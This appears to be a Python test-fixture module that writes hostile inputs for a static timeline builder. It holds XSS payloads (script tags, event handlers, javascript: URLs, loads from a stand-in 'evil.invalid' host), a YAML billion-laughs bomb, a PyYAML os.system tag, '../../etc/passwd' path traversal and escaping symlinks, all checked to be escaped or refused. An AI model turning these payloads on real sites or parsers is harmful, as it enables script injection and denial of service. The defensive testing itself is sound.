"""A corpus of hostile input, written by the tests themselves into a temporary folder.

Each `Case` is a small sources folder (plus, for some, a config file or a symlink) and the
outcome a build must have:

- "ok": the build succeeds; `message` is a line it must print on stderr (a warning naming
  the file), or "" when the input must be read without complaint;
- "error": the build stops with exit status 1 and exactly `message` as its one line on
  stderr, naming the file and line, and the previous output is untouched.

Messages are templates: `{src}` is the sources folder as the build prints it, `{out}` the
output folder.  Nothing here is committed as data; the 50 MB article is generated.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

# A good article in every case, so that a build that succeeds has something to show.
BASE = (
    "---\ntitle: Council backs budget\npublished: 2024-03-05\n---\n"
    "The city council approved a new budget on Tuesday after a long debate.\n"
    "On March 1, 2024, the mayor announced the plan to fund three new schools.\n"
)

# Payloads that, if any reached a page unescaped, would run script or fetch from outside.
# Each sets a window flag, calls alert or fetches from an outside host; the browser test
# watches for all three.
PAYLOADS = (
    "<script>window.__pwned = 'script'; alert(1)</script>",
    "<img src=x onerror=\"window.__pwned='img'\">",
    "\"><svg onload=\"window.__pwned='svg'\">",
    "'><script src=\"http://evil.invalid/x.js\"></script>",
    "</title></textarea></script><script>window.__pwned='break-out'</script>",
    "<iframe src=\"javascript:parent.__pwned='iframe'\"></iframe>",
    "<link rel=stylesheet href=\"http://evil.invalid/x.css\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.invalid/\">",
    "{{ 7*7 }}{% raw %}<b>jinja</b>",
)
PAYLOAD = " ".join(PAYLOADS)
JS_URL = "javascript:window.__pwned='url';alert(1)"


def q(text: str) -> str:
    """`text` as a YAML double-quoted scalar (JSON's string syntax is YAML's)."""
    return json.dumps(text)


def _bytes(text: str) -> bytes:
    return text.encode("utf-8")


def article(title: str = "Talks resume", body: str = "", front: str = "") -> bytes:
    """A small UTF-8 article with front matter."""
    return _bytes(
        f"---\ntitle: {title}\npublished: 2024-05-02\n{front}---\n"
        f"{body or 'The talks resumed on 1 May 2024 in Geneva, the ministry said.'}\n"
    )


@dataclass(frozen=True)
class Case:
    name: str
    files: dict[str, bytes]
    outcome: str  # "ok" or "error"
    message: str  # a stderr line, see the module docstring
    config: str = "title: Hostile\n"
    # Extra preparation of the sources folder (symlinks, generated files): (folder) -> None.
    setup: Callable[[Path], None] | None = field(default=None, compare=False)
    # Payloads from this case are rendered into pages: the browser test loads them.
    inject: bool = False


def _symlink_out(folder: Path) -> None:
    outside = folder.parent / "outside"
    outside.mkdir(exist_ok=True)
    (outside / "secret.txt").write_text("The secret plan was agreed on 3 March 2024.\n",
                                        encoding="utf-8")
    (folder / "leak.txt").symlink_to(outside / "secret.txt")


def _symlink_dir_out(folder: Path) -> None:
    outside = folder.parent / "outside-dir"
    outside.mkdir(exist_ok=True)
    (outside / "secret.txt").write_text("The secret plan was agreed on 3 March 2024.\n",
                                        encoding="utf-8")
    (folder / "more").symlink_to(outside, target_is_directory=True)


def _symlink_loop(folder: Path) -> None:
    (folder / "loop.txt").symlink_to(folder / "loop.txt")


def _symlink_yaml_out(folder: Path) -> None:
    outside = folder.parent / "outside-yaml"
    outside.mkdir(exist_ok=True)
    (outside / "events.yaml").write_text(
        "events:\n  - date: 2024-01-01\n    title: Planted event\n", encoding="utf-8")
    (folder / "events.yaml").symlink_to(outside / "events.yaml")


def _fifo(folder: Path) -> None:
    os.mkfifo(folder / "pipe.txt")  # reading it would block forever


BIG_BYTES = 50 * 1024 * 1024


def _big_article(folder: Path) -> None:
    par = (b"On May 16, 2024, the first direct talks between the two delegations were held "
           b"in Istanbul, officials said. A day later the ministers met again.\n\n")
    with open(folder / "big.txt", "wb") as f:
        f.write(b"A very long article\n\n")
        chunk = par * (1024 * 1024 // len(par))
        while f.tell() < BIG_BYTES:
            f.write(chunk)
        f.truncate(BIG_BYTES)


LONG_LINE = "The ministers talked and talked " * 40_000  # 1.3 MB, no sentence end
BILLION_LAUGHS = (
    'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
    "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
    "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
    "e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
    "f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n"
    "g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n"
)


def _events_yaml(event: str) -> dict[str, bytes]:
    return {"events.yaml": _bytes("events:\n" + event)}


CASES: tuple[Case, ...] = (
    # -- encodings ----------------------------------------------------------------------
    Case("latin1", {"latin1.txt": "Le ministre a démissionné le 3 mai 2024, a déclaré l'Élysée.\n"
                    .encode("cp1252")}, "ok",
         "warning: {src}/latin1.txt:1: not valid UTF-8 (byte 15); such bytes read as Windows-1252"),
    Case("mixed-encodings",
         {"mixed.txt": "Café talks: the ministers met on 3 May 2024 in Genève.\n".encode()
          + "Le café était fermé le 4 mai 2024.\n".encode("cp1252")}, "ok",
         "warning: {src}/mixed.txt:2: not valid UTF-8 (byte 63); such bytes read as Windows-1252"),
    Case("utf8-bom", {"bom.txt": b"\xef\xbb\xbf" + article()}, "ok", ""),
    Case("utf16-bom", {"utf16.txt": "\ufeff".encode("utf-16-le") + article().decode()
                       .encode("utf-16-le")}, "ok", ""),
    Case("utf16-truncated", {"broken16.txt": b"\xff\xfe" + "Talks resumed".encode("utf-16-le")
                             + b"\x00\xd8"}, "ok",
         "warning: {src}/broken16.txt: invalid UTF-16 (byte 28), skipped"),
    Case("crlf", {"crlf.md": article(body="# Talks\r\n\r\nThe talks resumed on **1 May 2024**.")
                  .replace(b"\n", b"\r\n")}, "ok", ""),
    Case("cr-only", {"mac.txt": article().replace(b"\n", b"\r")}, "ok", ""),
    Case("empty", {"empty.txt": b""}, "ok", "warning: {src}/empty.txt: empty file, skipped"),
    Case("whitespace-only", {"blank.md": b" \n\t\r\n  \n"}, "ok",
         "warning: {src}/blank.md: empty file, skipped"),
    Case("binary-png", {"image.txt": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8},
         "ok", "warning: {src}/image.txt: binary file (contains NUL bytes), skipped"),
    Case("binary-late-nul", {"late.md": b"Talks resumed on 1 May 2024.\n" * 400 + b"\x00\x01\x02"},
         "ok", "warning: {src}/late.md: binary file (contains NUL bytes), skipped"),
    Case("binary-no-nul", {"noise.html": bytes((i * 97 + 13) % 255 + 1 for i in range(20_000))},
         "ok", "warning: {src}/noise.html: binary file (control characters), skipped"),
    Case("control-characters", {"ctrl.txt": b"Talks\x1b[31m resumed\x07 on 1 May 2024.\x0b\n"}, "ok",
         ""),
    # -- size ---------------------------------------------------------------------------
    Case("50mb-article", {}, "ok",
         "warning: {src}/big.txt: 50.0 MB, over the 5 MB limit for an article; skipped",
         setup=_big_article),
    Case("long-line", {"long.txt": _bytes("On 2 May 2024 " + LONG_LINE + "\n")}, "ok", ""),
    Case("long-word", {"word.md": _bytes("Talks resumed on 1 May 2024.\n\n" + "x" * 2_000_000)},
         "ok", ""),
    Case("many-dates-one-line", {"dates.txt": _bytes("1 May 2024, " * 25_000)}, "ok", ""),
    Case("deep-html", {"deep.html": _bytes("<div>" * 50_000 + "Talks on 1 May 2024." +
                                           "</div>" * 50_000)}, "ok", ""),
    Case("markdown-brackets", {"brackets.md": _bytes("[" * 30_000 + "](" * 30_000 + "\n")},
         "ok", ""),
    # -- front matter -------------------------------------------------------------------
    Case("front-matter-not-yaml", {"bad.md": b"---\ntitle: [unclosed\npublished: 2024\n---\nText.\n"},
         "error", "error: {src}/bad.md:3:10: invalid YAML: expected ',' or ']', but got ':'"),
    Case("front-matter-a-list", {"list.md": b"---\n- one\n- two\n---\nText on 1 May 2024.\n"},
         "error", "error: {src}/list.md:2: front matter must be a YAML mapping"),
    Case("front-matter-unclosed", {"open.md": b"---\ntitle: Open\nThe talks resumed on 1 May 2024.\n"},
         "ok", ""),
    Case("front-matter-tabs", {"tabs.md": b"---\ntitle: Tabs\nmeta:\n\tauthor: X\n---\nText.\n"},
         "error", "error: {src}/tabs.md:4:1: invalid YAML: found character '\\t' that cannot "
         "start any token (YAML does not allow tabs for indentation)"),
    Case("front-matter-duplicate-key",
         {"dup.md": b"---\ntitle: One\ntitle: Two\npublished: 2024-05-01\n---\nText.\n"},
         "error", "error: {src}/dup.md:3:1: duplicate key 'title'"),
    Case("front-matter-billion-laughs", {"lol.md": _bytes("---\n" + BILLION_LAUGHS + "---\nText.\n")},
         "error", "error: {src}/lol.md:8:23: more than 50 YAML aliases; refusing to expand them"),
    Case("front-matter-python-tag",
         {"tag.md": b"---\ntitle: !!python/object/apply:os.system ['touch /tmp/pwned']\n---\nText.\n"},
         "error", "error: {src}/tag.md:2:8: invalid YAML: could not determine a constructor for "
         "the tag 'tag:yaml.org,2002:python/object/apply:os.system'"),
    Case("front-matter-year-0", {"y0.md": article(front="published: 0000-01-01\n")
                                 .replace(b"published: 2024-05-02\n", b"")},
         "error", "error: {src}/y0.md:3: published: '0000-01-01' is not a date (use YYYY-MM-DD)"),
    Case("front-matter-year-99999", {"y99999.md": article(front="published: 99999-01-01\n")
                                     .replace(b"published: 2024-05-02\n", b"")},
         "error", "error: {src}/y99999.md:3: published: '99999-01-01' is not a date (use YYYY-MM-DD)"),
    Case("front-matter-31-june", {"june.md": article(front="published: 2024-06-31\n")
                                  .replace(b"published: 2024-05-02\n", b"")},
         "error", "error: {src}/june.md:3: published: '2024-06-31' is not a date (use YYYY-MM-DD)"),
    Case("front-matter-last-day", {"last.md": article(
        body="Tomorrow the talks resume; next year they end; a day later, nothing.",
        front="published: 9999-12-31\n").replace(b"published: 2024-05-02\n", b"")}, "ok", ""),
    Case("front-matter-first-day", {"first.md": article(
        body="Yesterday the talks ended; last year they began; a week earlier, nothing.",
        front="published: 0001-01-01\n").replace(b"published: 2024-05-02\n", b"")}, "ok", ""),
    Case("html-meta-impossible-date", {"page.html": _bytes(
        '<html><head><meta property="article:published_time" content="2024-06-31T10:00">'
        "<title>T</title></head><body><p>Talks resumed on 1 May 2024 in Geneva.</p></body></html>")},
         "ok", "warning: {src}/page.html: the page's publication date '2024-06-31T10:00' is not a "
         "date; ignored"),
    # -- dates in article text ----------------------------------------------------------
    Case("text-impossible-dates", {"dates.txt": _bytes(
        "The talks began on 31 June 2024 and ended on 30 February 2024, in the year 0.\n"
        "By the year 99999 and on 0000-00-00 and 99999-12-31 and 2024-13-45 nothing happened.\n"
        "On 1 January 1 and on 31 December 9999 the ministers met.\n")}, "ok", ""),
    # -- YAML: manual events, metadata, config ------------------------------------------
    Case("yaml-tabs", {"events.yaml": b"events:\n\t- date: 2024-01-01\n\t  title: Tabs\n"}, "error",
         "error: {src}/events.yaml:2:1: invalid YAML: found character '\\t' that cannot start "
         "any token (YAML does not allow tabs for indentation)"),
    Case("yaml-duplicate-key", _events_yaml("  - date: 2024-01-01\n    title: A\n    date: 2024-01-02\n"),
         "error", "error: {src}/events.yaml:4:5: duplicate key 'date'"),
    Case("yaml-billion-laughs", {"events.yaml": _bytes(BILLION_LAUGHS)}, "error",
         "error: {src}/events.yaml:7:23: more than 50 YAML aliases; refusing to expand them"),
    Case("config-billion-laughs", {}, "error",
         "error: {config}:7:23: more than 50 YAML aliases; refusing to expand them",
         config=BILLION_LAUGHS),
    Case("yaml-not-utf8", {"events.yaml": "events:\n  - date: 2024-01-01\n    title: Café\n"
                           .encode("cp1252")}, "error",
         "error: {src}/events.yaml:3: not valid UTF-8 (byte 43); save the file as UTF-8"),
    Case("config-not-utf8", {}, "error",
         "error: {config}:1: not valid UTF-8 (byte 10); save the file as UTF-8",
         config="title: Caf\udce9\n"),
    Case("about-not-utf8", {"about.md": "# À propos\n".encode("cp1252")}, "error",
         "error: {src}/about.md:1: not valid UTF-8 (byte 2); save the file as UTF-8",
         config="title: Hostile\nabout: about.md\n"),
    Case("yaml-binary", {"events.yaml": b"\x00\x01\x02\x03events"}, "error",
         "error: {src}/events.yaml:1:1: invalid YAML: character #x0000 is not allowed"),
    Case("yaml-year-0", _events_yaml("  - date: 0000-01-01\n    title: Year zero\n"), "error",
         "error: {src}/events.yaml:2:5: date: 0000-01-01 is not a day of the calendar"),
    Case("yaml-year-0-alone", _events_yaml("  - date: '0000'\n    title: Year zero\n"), "error",
         "error: {src}/events.yaml:2:5: date: 0000 is not a day of the calendar"),
    Case("yaml-year-99999", _events_yaml("  - date: 99999-01-01\n    title: Far future\n"), "error",
         "error: {src}/events.yaml:2:5: date: '99999-01-01' is not a date (use YYYY, YYYY-MM or "
         "YYYY-MM-DD, '~' for approximate)"),
    Case("yaml-31-june", _events_yaml("  - date: 2024-06-31\n    title: No such day\n"), "error",
         "error: {src}/events.yaml:2:5: date: 2024-06-31 is not a day of the calendar"),
    Case("yaml-extreme-end", _events_yaml("  - date: 0001-01-01\n    end: 9999-12-31\n"
                                          "    title: All of time\n"), "ok", ""),
    Case("metadata-31-june", {"talks.txt": b"The talks resumed on Monday.\n",
                              "sources.yaml": b"sources:\n  talks:\n    published: 2024-06-31\n"},
         "error", "error: {src}/sources.yaml:3: published: '2024-06-31' is not a date (use YYYY-MM-DD)"),
    # -- the file system ----------------------------------------------------------------
    Case("symlink-out", {}, "ok",
         "warning: {src}/leak.txt: links outside the sources folder, skipped", setup=_symlink_out),
    Case("symlink-dir-out", {}, "ok",
         "warning: {src}/more: links outside the sources folder, skipped", setup=_symlink_dir_out),
    Case("symlink-loop", {}, "ok", "warning: {src}/loop.txt: broken symbolic link, skipped", setup=_symlink_loop),
    Case("symlink-yaml-out", {}, "ok",
         "warning: {src}/events.yaml: links outside the sources folder, skipped",
         setup=_symlink_yaml_out),
    Case("fifo", {}, "ok", "warning: {src}/pipe.txt: not a regular file, skipped", setup=_fifo),
    Case("name-with-spaces", {"my article.txt": article("Spaces")}, "ok", ""),
    Case("name-unicode", {"статья – ü 東京.md": article("Unicode")}, "ok", ""),
    Case("name-dots", {"..a..b...txt": article("Dots"), "a..b.txt": article("Dots")}, "ok", ""),
    Case("name-markup", {"<b>'\"&.txt": article("Markup")}, "ok", "", inject=True),
    Case("name-newline", {"two\nlines.txt": article("Newline")}, "ok", ""),
    Case("id-dot-dot-in-metadata", {"sources.yaml": b"sources:\n  ../../etc/passwd:\n    title: X\n"},
         "ok", "warning: {src}/sources.yaml:2: metadata for '../../etc/passwd', but no such source file"),
    Case("manual-id-dot-dot", _events_yaml("  - id: ../../evil\n    date: 2024-01-01\n    title: Evil\n"),
         "error", "error: {src}/events.yaml:2:5: id '../../evil' cannot be used as a file name "
         "(no '/' or '\\')"),
    Case("ids-collide-extensions", {"report.txt": article("One"), "report.md": article("Two")},
         "error", "error: {src}/report.txt: two sources have the id 'report' (also {src}/report.md); "
         "rename one"),
    Case("ids-collide-folders", {"a/report.txt": article("One"), "b/report.txt": article("Two")},
         "error", "error: {src}/b/report.txt: two sources have the id 'report' (also "
         "{src}/a/report.txt); rename one"),
    Case("ids-collide-in-case", {"Report.txt": article("One"), "report.txt": article("Two")},
         "error", "error: {src}/report.txt: two sources have the id 'report' (also "
         "{src}/Report.txt); rename one"),
    Case("manual-id-collides-with-extracted", _events_yaml(
        "  - id: 2024-03-05-city-council-approved-new-budget-after\n    date: 2024-01-01\n"
        "    title: Taken\n"), "error",
        "error: {src}/events.yaml:2:5: event id '2024-03-05-city-council-approved-new-budget-after' "
        "is already used by an extracted event"),
    Case("ids-collide-after-slugging", _events_yaml(
        "  - date: 2024-01-01\n    title: Talks resume!\n"
        "  - date: 2024-01-01\n    title: talks   RESUME?\n"), "error",
        "error: {src}/events.yaml:4:5: duplicate event id '2024-01-01-talks-resume' "
        "(first at {src}/events.yaml:2)"),
    Case("extracted-ids-collide", {"one.txt": article("One", "On 1 May 2024, talks resumed."),
                                   "two.txt": article("Two", "On 1 May 2024, talks resumed!")},
         "ok", ""),
    # -- markup and script from content -------------------------------------------------
    Case("script-in-text", {"xss-text.txt": article("Plain", f"On 1 May 2024 talks resumed. {PAYLOAD}")},
         "ok", "", inject=True),
    Case("script-in-markdown", {"xss-markdown.md": article("Markdown",
         f"# {PAYLOAD}\n\nOn 1 May 2024 talks resumed. {PAYLOAD}\n\n[link]({JS_URL})")}, "ok", "",
         inject=True),
    Case("script-in-html", {"xss-html.html": _bytes(
        f"<html><head><title>{PAYLOAD}</title>"
        f"<meta property=\"og:site_name\" content=\"{PAYLOAD.replace(chr(34), '&quot;')}\">"
        f"<meta property=\"og:url\" content=\"{JS_URL}\">"
        "<meta property=\"article:published_time\" content=\"2024-05-02\"></head>"
        f"<body onload=\"window.__pwned='body'\"><p>On 1 May 2024 talks resumed. "
        f"&lt;script&gt;window.__pwned='entity'&lt;/script&gt;</p><script>window.__pwned='page'</script>"
        f"<p>{PAYLOAD}</p></body></html>")}, "ok", "", inject=True),
    Case("script-in-front-matter", {"xss-front-matter.md": _bytes(
        f"---\ntitle: {q(PAYLOAD)}\noutlet: {q(PAYLOAD)}\nauthor: {q(PAYLOAD)}\nurl: \"{JS_URL}\"\n"
        "published: 2024-05-02\n---\nOn 1 May 2024 talks resumed.\n")}, "ok", "", inject=True),
    Case("script-in-yaml", {"events.yaml": _bytes(
        f"events:\n  - date: 2024-02-01\n    id: yaml-xss\n    title: {q(PAYLOAD)}\n"
        f"    summary: {q(PAYLOAD + ' [click](' + JS_URL + ') <a href=' + JS_URL + '>x</a>')}\n"
        f"    tags: [{q(PAYLOAD)}]\n    sources:\n"
        f"      - {{url: 'https://example.org/a', outlet: {q(PAYLOAD)}, quote: {q(PAYLOAD)}}}\n"
        f"sources:\n  xss-meta:\n    title: {q(PAYLOAD)}\n    outlet: {q(PAYLOAD)}\n    url: \"{JS_URL}\"\n"),
        "xss-meta.txt": b"On 1 May 2024 talks resumed.\n"}, "ok", "", inject=True),
    Case("script-in-config", {}, "ok", "", inject=True,
         config=f"title: {q(PAYLOAD)}\ndescription: {q(PAYLOAD)}\nabout: {q(PAYLOAD)}\n"),
    Case("javascript-base-url", {}, "error",
         "error: {config}:2:1: base_url \"javascript:alert('x')\" must be an http:// or https:// URL",
         config="title: Hostile\nbase_url: \"javascript:alert('x')\"\n"),
    Case("javascript-url-in-yaml-source", _events_yaml(
        f"  - date: 2024-01-01\n    title: X\n    sources: [\"{JS_URL}\"]\n"), "error",
        "error: {src}/events.yaml:4:15: source URL \"" + JS_URL + "\" must start with http:// or https://"),
)

BY_NAME = {c.name: c for c in CASES}


def write_case(case: Case, root: Path) -> tuple[Path, Path]:
    """Write the case's sources folder and config under `root`: (sources folder, config)."""
    src = root / "src"
    src.mkdir(parents=True)
    (src / "base.txt").write_bytes(BASE.encode())
    for rel, data in case.files.items():
        path = src / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    if case.setup is not None:
        case.setup(src)
    config = root / "timeline.yaml"
    config.write_bytes(case.config.encode("utf-8", "surrogateescape"))  # bytes as given
    return src, config
